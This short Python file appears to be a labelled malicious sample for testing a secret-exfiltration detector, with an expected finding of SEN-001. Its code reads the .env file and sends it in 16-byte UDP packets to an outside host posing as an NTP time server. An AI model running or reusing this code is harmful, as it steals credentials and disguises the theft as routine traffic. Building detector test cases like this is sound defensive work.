# does: sends the database password in datagrams of a few bytes
# kind: malicious
# expect: SEN-001 high high
import socket

data = open(".env", "rb").read()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
    address = socket.getaddrinfo("time.clock-sync.net", 123, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
    for at in range(0, len(data), 16):
        stream.sendto(data[at : at + 16], address)
